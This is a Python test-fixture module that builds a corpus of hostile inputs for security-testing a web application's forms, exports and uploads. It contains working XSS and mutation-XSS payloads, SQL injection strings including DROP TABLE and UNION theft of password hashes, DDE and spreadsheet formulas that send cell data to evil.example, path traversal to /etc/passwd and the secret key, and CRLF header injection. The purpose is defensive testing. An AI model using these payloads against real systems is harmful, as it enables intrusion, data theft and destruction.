"""The hostile-input corpus: strings that attack the HTML, SQL, spreadsheet, size, encoding and file-name
handling of every input surface, each with what it attacks.

Script payloads call `window.__xss(NAME)` (or `alert(NAME)`), and elements or attributes they would inject
carry `data-xss`, so a browser test can tell both that nothing ran and that nothing was parsed as markup,
even with the Content-Security-Policy switched off. NAME is the payload's own name, so a failure says which
payload got through.

`text` is what a person could type (str). `raw` payloads are bytes that are not valid text (invalid UTF-8)
and are sent only where bytes can travel: request bodies, file uploads, query strings and paths.
"""
from __future__ import annotations

from dataclasses import dataclass

# Kinds, so the corpus can be checked for coverage and surfaces can pick what applies to them.
KINDS = ("xss", "sql", "formula", "size", "encoding", "unicode", "number", "path", "template", "header")


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    kind: str
    attacks: str
    raw: bytes | None = None  # bytes that are not UTF-8; `text` is then their lossy decoding

    @property
    def executes(self) -> bool:
        """True when rendering it as markup would run script (it calls __xss or alert)."""
        return "__xss(" in self.text or "alert(" in self.text


def _xss(name: str, template: str, attacks: str) -> Payload:
    text = template.replace("CALL", f"__xss('{name}')").replace("MARK", f"data-xss={name}")
    return Payload(name, text, "xss", attacks)


_XSS = [
    # Element text: the value lands between tags.
    ("xss_script_tag", "<script>CALL</script>", "element text: a plain script element"),
    ("xss_img_onerror", "<img src=x MARK onerror=CALL>", "element text: event handler on a broken image"),
    ("xss_svg_onload", "<svg MARK onload=CALL>", "element text: inline SVG onload"),
    ("xss_svg_script", "<svg MARK><script>CALL</script></svg>", "element text: script inside SVG"),
    ("xss_iframe_srcdoc", "<iframe MARK srcdoc=\"<script>parent.__xss('xss_iframe_srcdoc')</script>\"></iframe>",
     "element text: iframe srcdoc document"),
    ("xss_body_onload", "<body MARK onload=CALL>", "element text: a second body's onload"),
    ("xss_details_ontoggle", "<details open MARK ontoggle=CALL>x</details>", "element text: ontoggle fires unclicked"),
    ("xss_input_autofocus", "<input MARK autofocus onfocus=CALL>", "element text: autofocus + onfocus"),
    ("xss_video_source", "<video><source MARK onerror=CALL></video>", "element text: media source error"),
    ("xss_mxss_math", "<math><mtext><table><mglyph><style><img src=x MARK onerror=CALL>",
     "element text: mutation XSS through MathML namespace confusion (sanitizer bypass)"),
    ("xss_mxss_noscript", "<noscript><p title=\"</noscript><img src=x MARK onerror=CALL>\">",
     "element text: mutation XSS through noscript parsing differences"),
    ("xss_nested_script", "<scr<script>ipt>CALL</scr</script>ipt>", "element text: filter that strips tags once"),
    ("xss_mixed_case", "<IMG SRC=x MARK OnErRoR=CALL>", "element text: case-sensitive blacklists"),
    ("xss_slash_separators", "<img/src=x/MARK/onerror=CALL>", "element text: slashes instead of spaces"),
    ("xss_unclosed_img", "<img src=x MARK onerror=\"CALL\"", "element text: unclosed tag swallowing what follows"),
    ("xss_entity_handler", "<img src=x MARK onerror=&#95;&#95;xss('xss_entity_handler')>",
     "element text: entity-encoded handler body"),
    ("xss_object_data", "<object MARK data=\"javascript:CALL\"></object>",
     "element text: object with javascript: data"),
    ("xss_embed_src", "<embed MARK src=\"javascript:CALL\">", "element text: embed"),
    ("xss_button_formaction", "<form><button MARK formaction=javascript:CALL>go</button></form>",
     "element text: formaction on a nested form"),
    ("xss_meta_refresh", "<meta MARK http-equiv=refresh content=\"0;url=javascript:CALL\">",
     "element text: meta refresh to javascript:"),
    ("xss_base_href", "<base MARK href=\"javascript:CALL//\">", "element text: base element hijacking relative URLs"),
    ("xss_marquee", "<marquee MARK onstart=CALL>x</marquee>", "element text: legacy marquee events"),
    ("xss_comment_break", "<!--<img src=\"--><img src=x MARK onerror=CALL//\">",
     "element text: comment that closes early in the parser"),
    ("xss_title_break", "</title><img src=x MARK onerror=CALL>", "element text inside <title>"),
    ("xss_textarea_break", "</textarea><img src=x MARK onerror=CALL>", "element text inside <textarea> (editors)"),
    ("xss_option_break", "</option></select><img src=x MARK onerror=CALL>", "element text inside <option>"),
    ("xss_alert_dialog", "<img src=x MARK onerror=alert('xss_alert_dialog')>",
     "element text: a dialog (page.on dialog)"),
    ("xss_document_title", "<img src=x MARK onerror=\"document.title='xss_document_title'\">",
     "element text: changes document.title"),
    ("xss_xmp_break", "<xmp><img src=x MARK onerror=CALL></xmp>", "element text: raw-text element confusion"),
    ("xss_template_break", "<template><img src=x onerror=CALL></template><img src=x MARK onerror=CALL>",
     "element text: template content"),
    # Attribute values, quoted.
    ("xss_attr_double_quote", "\" MARK onmouseover=\"CALL\" autofocus onfocus=\"CALL", "attribute value in \"…\""),
    ("xss_attr_single_quote", "' MARK onfocus='CALL' autofocus x='", "attribute value in '…'"),
    ("xss_attr_tag_break", "\"><svg MARK onload=CALL>", "attribute value: closing the tag from \"…\""),
    ("xss_attr_single_tag_break", "'><svg MARK onload=CALL>", "attribute value: closing the tag from '…'"),
    ("xss_attr_entity_quote", "&quot; MARK autofocus onfocus=CALL x=&quot;", "attribute value: pre-encoded quotes"),
    ("xss_attr_style_animation", "\" MARK style=\"animation-name:spin\" onanimationstart=\"CALL",
     "attribute value: CSS animation event"),
    # Attribute values, unquoted (a template that forgets the quotes).
    ("xss_unquoted_space", "x MARK onmouseover=CALL autofocus onfocus=CALL", "unquoted attribute value: a space"),
    ("xss_unquoted_slash", "x/MARK/autofocus/onfocus=CALL", "unquoted attribute value: slashes"),
    ("xss_unquoted_tab", "x\tMARK\tautofocus\tonfocus=CALL", "unquoted attribute value: tabs"),
    ("xss_unquoted_formfeed", "x\x0cMARK\x0cautofocus\x0confocus=CALL", "unquoted attribute value: form feed"),
    ("xss_backtick", "`MARK onfocus=CALL autofocus `", "attribute value: backticks as quotes (old IE)"),
    # URLs: href/src values.
    ("xss_url_javascript", "javascript:CALL", "URL slot: javascript: scheme"),
    ("xss_url_mixed_case", "JaVaScRiPt:CALL", "URL slot: scheme case"),
    ("xss_url_leading_space", " \tjavascript:CALL", "URL slot: leading whitespace before the scheme"),
    ("xss_url_tab_inside", "java\tscript:CALL", "URL slot: tab inside the scheme"),
    ("xss_url_entity_colon", "javascript&colon;CALL", "URL slot: entity colon"),
    ("xss_url_entity_j", "&#106;avascript:CALL", "URL slot: entity-encoded letter"),
    ("xss_url_data_html", "data:text/html,<script>CALL</script>", "URL slot: data: document"),
    ("xss_url_data_base64", "data:text/html;base64,PHNjcmlwdD5fX3hzcygneHNzX3VybF9kYXRhX2Jhc2U2NCcpPC9zY3JpcHQ+",
     "URL slot: base64 data: document"),
    ("xss_url_vbscript", "vbscript:msgbox('xss_url_vbscript')", "URL slot: vbscript:"),
    ("xss_url_newline", "javascript://%0aCALL", "URL slot: javascript: hidden behind a comment and newline"),
    ("xss_url_protocol_relative", "//evil.example/steal", "URL slot: protocol-relative open redirect"),
    ("xss_url_quote_break", "https://evil.example/\" MARK onmouseover=\"CALL", "URL slot: breaking out of href"),
    # Inside <script> / JSON data blocks.
    ("xss_script_close", "</script><script>CALL</script>", "inside <script>: closing it early"),
    ("xss_script_close_case", "</ScRiPt ><script>CALL</script>", "inside <script>: closing tag variants"),
    ("xss_js_single_quote", "';CALL;//", "inside a JS string in '…'"),
    ("xss_js_double_quote", "\";CALL;//", "inside a JS string in \"…\""),
    ("xss_js_escaped_quote", "\\\";CALL;//", "inside a JS string: escaping the escape"),
    ("xss_js_template_literal", "${CALL}", "inside a JS template literal"),
    ("xss_js_line_separator", "\u2028CALL\u2029", "inside JS/JSON: U+2028/2029 line terminators"),
    ("xss_html_comment_script", "<!--<script>CALL//-->", "inside <script>: the double-escaped state"),
    ("xss_json_proto", "{\"__proto__\": {\"polluted\": \"xss_json_proto\"}}", "JSON: prototype pollution as text"),
    # SVG.
    ("xss_svg_animate", "<svg><animate MARK onbegin=CALL attributeName=x dur=1s></svg>", "SVG: animate onbegin"),
    ("xss_svg_xlink", "<svg><a MARK xlink:href=\"javascript:CALL\"><text x=20 y=20>x</text></a></svg>",
     "SVG: xlink:href javascript:"),
    ("xss_svg_foreign_object", "<svg><foreignObject><img src=x MARK onerror=CALL></foreignObject></svg>",
     "SVG: HTML inside foreignObject"),
    ("xss_svg_set", "<svg><set MARK attributeName=onmouseover to=CALL></svg>", "SVG: set an event attribute"),
    ("xss_svg_document", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" MARK onload=\"CALL\"/>",
     "SVG: a whole SVG document (charts draw labels into SVG)"),
    ("xss_svg_use_data", "<svg><use MARK href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
                         "<image href='x' onerror='CALL'/></svg>#x\"/></svg>", "SVG: use with a data: document"),
    # CSS.
    ("xss_style_break", "</style><img src=x MARK onerror=CALL>", "CSS: closing a <style> element"),
    ("xss_css_expression", "x{width:expression(CALL)}", "CSS: IE expression()"),
    ("xss_css_url_javascript", "x{background:url(\"javascript:CALL\")}", "CSS: javascript: in url()"),
    ("xss_css_import", "@import 'data:text/css,*{color:red}';", "CSS: @import"),
    ("xss_style_attribute", "<div MARK style=\"background-image:url(javascript:CALL)\">x</div>",
     "CSS: style attribute with a javascript: URL"),
    ("xss_style_element", "<style MARK>*{display:none}</style>", "CSS: a style element hiding the page"),
    ("xss_link_stylesheet", "<link MARK rel=stylesheet href=\"data:text/css,*{display:none}\">",
     "CSS: an injected stylesheet"),
    # Markdown in change entries ("we did" is Markdown rendered to HTML and sanitised).
    ("md_link_javascript", "[click](javascript:CALL)", "Markdown: link to javascript:"),
    ("md_link_upper", "[click](JAVASCRIPT:CALL)", "Markdown: link scheme case"),
    ("md_image_onerror", "![img](x\" MARK onerror=\"CALL)", "Markdown: image URL breaking out of src"),
    ("md_autolink", "<javascript:CALL>", "Markdown: autolink to javascript:"),
    ("md_reference_link", "[x][evil]\n\n[evil]: javascript:CALL", "Markdown: reference-style link"),
    ("md_raw_html_img", "text <img src=x MARK onerror=CALL> text", "Markdown: raw HTML passes through markdown"),
    ("md_raw_html_link", "<a MARK href=\"javascript:CALL\">x</a>", "Markdown: raw HTML link"),
    ("md_link_data", "[x](data:text/html,<script>CALL</script>)", "Markdown: link to a data: document"),
    ("md_link_entity", "[x](&#x6A;avascript:CALL)", "Markdown: entity-encoded scheme in a link"),
    ("md_bold_script", "**<script>CALL</script>**", "Markdown: script inside emphasis"),
    ("md_link_title", "[x](https://example.com \"t\\\" MARK onmouseover=\\\"CALL\")", "Markdown: link title break"),
    ("md_html_block", "<div markdown=\"1\"><script>CALL</script></div>", "Markdown: HTML block with markdown inside"),
    ("md_form", "<form MARK action=\"javascript:CALL\"><input type=submit></form>", "Markdown: raw form"),
    ("md_iframe", "<iframe MARK src=\"javascript:CALL\"></iframe>", "Markdown: raw iframe"),
]

XSS = [_xss(name, template, attacks) for name, template, attacks in _XSS]

TEMPLATE = [
    Payload("ssti_jinja_expression", "{{7*7}}{{ config.SECRET_KEY }}", "template",
            "server-side template injection (Jinja): must show as text, never 49 or the secret"),
    Payload("ssti_jinja_statement", "{% for x in range(3) %}loop{% endfor %}", "template", "Jinja statements"),
    Payload("ssti_format_string", "{0.__class__.__mro__}%s%s%s%n", "template", "str.format / printf in messages"),
    Payload("ssti_angular", "{{constructor.constructor('__xss(\"ssti_angular\")')()}}", "template",
            "client-side template injection (Angular-style)"),
]

SQL = [Payload(name, text, "sql", attacks) for name, text, attacks in [
    ("sql_or_true", "' OR '1'='1", "string literal: tautology"),
    ("sql_or_comment", "' OR 1=1 --", "string literal: tautology and comment"),
    ("sql_drop_table", "'; DROP TABLE responses; --", "stacked query"),
    ("sql_double_quote", "\" OR \"\"=\"", "double-quoted literal / identifier"),
    ("sql_pg_sleep", "1; SELECT pg_sleep(5)--", "stacked time-based query (PostgreSQL)"),
    ("sql_pg_sleep_subquery", "1' AND (SELECT 1 FROM pg_sleep(5))--", "time-based blind injection"),
    ("sql_union_users", "' UNION SELECT email, password_hash FROM users --", "UNION exfiltration"),
    ("sql_admin_comment", "admin'--", "login bypass by comment"),
    ("sql_dollar_quote", "$$; DROP TABLE users; $$", "PostgreSQL dollar quoting"),
    ("sql_sqlite_version", "';SELECT sqlite_version();--", "stacked query (SQLite)"),
    ("sql_numeric_or", "1 OR 1=1", "numeric slot tautology"),
    ("sql_comment_spaces", "'/**/OR/**/1=1/**/--", "comments instead of spaces"),
    ("sql_backslash_quote", "\\'; --", "backslash escaping of the quote"),
    ("sql_like_percent", "%", "LIKE: match everything"),
    ("sql_like_underscore", "_", "LIKE: any one character"),
    ("sql_like_escape", "\\%\\_\\\\", "LIKE: the escape character itself"),
    ("sql_like_percent_quote", "%' --", "LIKE pattern with quote"),
    ("sql_order_by_desc", "id DESC", "ORDER BY slot: direction"),
    ("sql_order_by_stacked", "email; DROP TABLE contacts", "ORDER BY slot: stacked statement"),
    ("sql_order_by_subquery", "(SELECT CASE WHEN (1=1) THEN email ELSE id END)", "ORDER BY slot: boolean oracle"),
    ("sql_identifier_quote", "location\" = '' OR \"1", "identifier slot: breaking out of a quoted name"),
    ("sql_identifier_paren", "location') OR ('1", "identifier slot: JSON key in a path expression"),
    ("sql_json_path", "$.a[0]' || '", "JSON path / JSON key"),
    ("sql_json_arrow", "location'->>'x", "JSON operator in a key"),
    ("sql_hex_literal", "0x41424344", "hex literal"),
    ("sql_char_function", "CHAR(39)||CHR(39)", "character functions"),
    ("sql_semicolon_only", ";", "statement separator"),
]]

FORMULA = [Payload(name, text, "formula", attacks) for name, text, attacks in [
    ("formula_equals", "=1+1", "spreadsheet formula"),
    ("formula_cmd", "=cmd|' /C calc'!A0", "DDE command execution (Excel)"),
    ("formula_plus", "+1+1", "formula starting with +"),
    ("formula_minus", "-1+1", "formula starting with -"),
    ("formula_at", "@SUM(1+1)", "formula starting with @"),
    ("formula_tab", "\t=1+1", "formula after a tab"),
    ("formula_cr", "\r=1+1", "formula after a carriage return"),
    ("formula_hyperlink", "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")", "data exfiltration link"),
    ("formula_importxml", "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")", "Google Sheets exfiltration"),
    ("formula_dde", "DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "DDE without a leading ="),
    ("formula_minus_cmd", "-2+3+cmd|' /C calc'!A0", "DDE behind arithmetic"),
    ("formula_at_cmd", "@cmd|'/c calc'!A0", "DDE starting with @"),
    ("formula_newline_equals", "safe\n=1+1", "formula on a second line of a cell"),
    ("formula_quote_equals", "\"=1+1\"", "quoted formula (CSV quoting confusion)"),
    ("formula_comma_equals", "a,=1+1", "separator then formula (splitting confusion)"),
]]

_BIG = 10 ** 6
SIZE = [
    Payload("size_10k", "A" * 10_000, "size", "over every field's length limit"),
    Payload("size_100k_words", "word " * 20_000, "size", "100 kB of words (search, CSV cells)"),
    Payload("size_long_line", "x" * 70_000, "size", "one 70 kB token without spaces"),
    Payload("size_many_lines", "line\n" * 5_000, "size", "5 000 lines (options, segments, CSV rows)"),
    Payload("size_3mb", "B" * 3 * 1024 * 1024, "size", "a body over HEARKEN_MAX_CONTENT_LENGTH (413)"),
    Payload("size_deep_brackets", "[" * 50_000, "size", "deep nesting for recursive parsers (JSON, Markdown)"),
    Payload("size_markdown_nesting", "> " * 5_000 + "x", "size", "deeply nested Markdown block quotes"),
    Payload("size_many_links", "[a](http://a.example) " * 3_000, "size", "thousands of Markdown links"),
]

ENCODING = [
    Payload("enc_invalid_continuation", "\ufffd(", "encoding", "invalid UTF-8: bad continuation byte", raw=b"\xc3\x28"),
    Payload("enc_lone_ff", "\ufffd\ufffd", "encoding", "invalid UTF-8: 0xFF 0xFE", raw=b"\xff\xfe"),
    Payload("enc_overlong_slash", "\ufffd\ufffd", "encoding", "invalid UTF-8: overlong '/' (path filters)",
            raw=b"\xc0\xaf"),
    Payload("enc_utf8_surrogate", "\ufffd\ufffd\ufffd", "encoding", "invalid UTF-8: an encoded surrogate",
            raw=b"\xed\xa0\x80"),
    Payload("enc_truncated", "abc\ufffd", "encoding", "invalid UTF-8: truncated sequence", raw=b"abc\xe2\x82"),
    Payload("enc_latin1", "caf\ufffd", "encoding", "Latin-1 text where UTF-8 is expected", raw=b"caf\xe9"),
    Payload("enc_nul_middle", "a\x00b", "encoding", "NUL byte (PostgreSQL cannot store it)"),
    Payload("enc_nul_only", "\x00", "encoding", "a lone NUL"),
    Payload("enc_nul_tail", "customer@example.com\x00.evil", "encoding", "NUL truncation of an address"),
    Payload("enc_lone_surrogate", "\ud800", "encoding", "a lone surrogate (not encodable as UTF-8)"),
    Payload("enc_ansi_escape", "\x1b[31mred\x1b[0m\x1b]0;title\x07", "encoding", "terminal escapes (log injection)"),
    Payload("enc_crlf_header", "x\r\nSet-Cookie: session=evil\r\nX-Injected: 1", "header",
            "CRLF: header injection / response splitting"),
    Payload("enc_crlf_log", "ok\n127.0.0.1 - - \"GET /admin HTTP/1.1\" 200", "encoding", "newline: forged log lines"),
    Payload("enc_control_chars", "".join(map(chr, range(1, 32))) + "\x7f", "encoding", "every C0 control character"),
    Payload("enc_c1_controls", "\x85\x9b\x9c", "encoding", "C1 controls (NEL, CSI)"),
    Payload("enc_bom", "\ufeffemail", "encoding", "a byte-order mark inside text"),
    Payload("enc_percent_nul", "%00", "encoding", "a percent-encoded NUL as text"),
    Payload("enc_double_percent", "%25%32%65", "encoding", "double URL encoding"),
]

UNICODE = [
    Payload("bidi_rlo", "\u202eevil\u202c", "unicode", "right-to-left override"),
    Payload("bidi_filename", "invoice\u202ecsv.exe", "unicode", "RLO disguising a file extension"),
    Payload("bidi_isolates", "\u2066\u2067\u2068x\u2069", "unicode", "bidi isolates left open"),
    Payload("bidi_rlm", "\u200f\u200e\u061c", "unicode", "direction marks"),
    Payload("bidi_unterminated", "\u202b\u202a\u202d", "unicode", "embeddings never popped (flip the page)"),
    Payload("zw_space", "a\u200bb\u200cc\u200dd", "unicode", "zero-width characters"),
    Payload("zw_only", "\u200b\u200b", "unicode", "only invisible characters (looks empty)"),
    Payload("zw_word_joiner", "\u2060\u2061\u2062\u2063\u2064", "unicode", "invisible operators"),
    Payload("combining_zalgo", "Z\u0335\u0322\u031b\u031b\u0347" * 50, "unicode", "stacked combining marks"),
    Payload("combining_only", "\u0301\u0301\u0301", "unicode", "combining marks with no base"),
    Payload("nfd_accent", "e\u0301", "unicode", "decomposed accent (NFC vs NFD)"),
    Payload("emoji_zwj", "\U0001F469\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466", "unicode",
            "emoji ZWJ sequence (4-byte UTF-8)"),
    Payload("astral_chars", "\U0001D54F\U0001F600\U00010348", "unicode", "characters outside the BMP"),
    Payload("homoglyph", "\u0430dmin@ex\u0430mple.com", "unicode", "Cyrillic look-alikes"),
    Payload("fullwidth_script", "\uff1cscript\uff1e__xss('fullwidth_script')\uff1c/script\uff1e", "unicode",
            "full-width angle brackets (normalisation to <script>)"),
    Payload("line_separators", "a\u2028b\u2029c\u0085d", "unicode", "Unicode line separators"),
    Payload("long_s_kelvin", "\u017fecret \u212a", "unicode", "characters whose case folding is ASCII"),
    Payload("dotless_i", "\u0130\u0131", "unicode", "Turkish i (lower/upper case length changes)"),
    Payload("noncharacters", "\ufffe\uffff\U0010ffff", "unicode", "Unicode noncharacters"),
    Payload("private_use", "\ue000\U000f0000", "unicode", "private-use characters"),
    Payload("hangul_filler", "\u3164\u115f", "unicode", "blank-looking letters"),
    Payload("superscript_digits", "\u00b2\u00b3", "number", "digits for str.isdigit() that int() refuses"),
    Payload("arabic_digits", "\u0663\u0664", "number", "non-ASCII decimal digits"),
]

NUMBER = [Payload(name, text, "number", attacks) for name, text, attacks in [
    ("num_huge", "9" * 40, "a number far beyond 64 bits"),
    ("num_int32_overflow", "2147483648", "one past the 32-bit integer range"),
    ("num_int64_overflow", "9223372036854775808", "one past the 64-bit integer range"),
    ("num_negative", "-1", "negative where a count is expected"),
    ("num_negative_huge", "-" + "9" * 30, "hugely negative"),
    ("num_zero", "0", "zero"),
    ("num_float_exp", "1e309", "a float that overflows to infinity"),
    ("num_nan", "NaN", "not a number"),
    ("num_infinity", "Infinity", "infinity"),
    ("num_negative_zero", "-0", "negative zero"),
    ("num_hex", "0x7fffffff", "hex notation"),
    ("num_underscore", "1_000", "Python's digit separators"),
    ("num_space_padded", " 42 ", "padding"),
    ("num_decimal", "3.5", "a fraction where an integer is expected"),
    ("num_date_far", "9999-12-31", "the last representable date"),
    ("num_date_zero", "0000-00-00", "an impossible date"),
    ("num_date_huge_year", "275760-09-13", "a year beyond Python's date"),
    ("num_datetime_overflow", "9999-12-31T23:59:59+14:00", "a moment that overflows when converted to UTC"),
]]

PATH = [Payload(name, text, "path", attacks) for name, text, attacks in [
    ("path_dotdot", "../../../../etc/passwd", "path traversal"),
    ("path_dotdot_csv", "../../instance/secret_key.csv", "path traversal towards the secret key"),
    ("path_backslash", "..\\..\\windows\\win.ini", "Windows traversal"),
    ("path_absolute", "/etc/passwd", "absolute path"),
    ("path_drive", "C:\\Windows\\system.ini", "drive letter"),
    ("path_encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "percent-encoded traversal"),
    ("path_double_encoded", "%252e%252e%252f", "double-encoded traversal"),
    ("path_device", "CON.csv", "Windows device name"),
    ("path_long", "a" * 5000 + ".csv", "a 5 000-character file name"),
    ("path_quote_newline", "a\"\r\nContent-Type: text/html\r\n\r\n<script>x</script>.csv",
     "Content-Disposition injection through a file name"),
    ("path_hidden", ".htaccess", "hidden file"),
    ("path_trailing_dot", "contacts.csv.", "trailing dot"),
]]

HEADER = [Payload(name, text, "header", attacks) for name, text, attacks in [
    ("host_evil", "evil.example", "Host header poisoning (links, password resets)"),
    ("host_with_port", "evil.example:443", "Host with a port"),
    ("host_userinfo", "feedback.example.test@evil.example", "Host with user info"),
    ("host_ipv6", "[::1]:5000", "IPv6 host"),
    ("xff_chain", "203.0.113.7, 198.51.100.1", "spoofed X-Forwarded-For chain"),
    ("xff_garbage", "not-an-address, ' OR 1=1", "X-Forwarded-For that is not an address"),
]]

PAYLOADS: list[Payload] = [*XSS, *TEMPLATE, *SQL, *FORMULA, *SIZE, *ENCODING, *UNICODE, *NUMBER, *PATH, *HEADER]
BY_NAME = {payload.name: payload for payload in PAYLOADS}

# What fits in an ordinary field (a few kilobytes of text): the big ones are sent to a few surfaces only.
SMALL = [p for p in PAYLOADS if len(p.text) <= 6000]
# Script payloads that a browser could run: stored everywhere that shows data, then every page is opened.
EXECUTABLE = [p for p in PAYLOADS if p.executes and len(p.text) < 600]


def storable(payload: Payload) -> str:
    """The payload as text a form field would accept: a browser never sends NUL or lone surrogates, and
    the fields' length limits would refuse the big ones before they are stored."""
    return payload.text.replace("\x00", "").encode("utf-8", "replace").decode("utf-8")[:480]
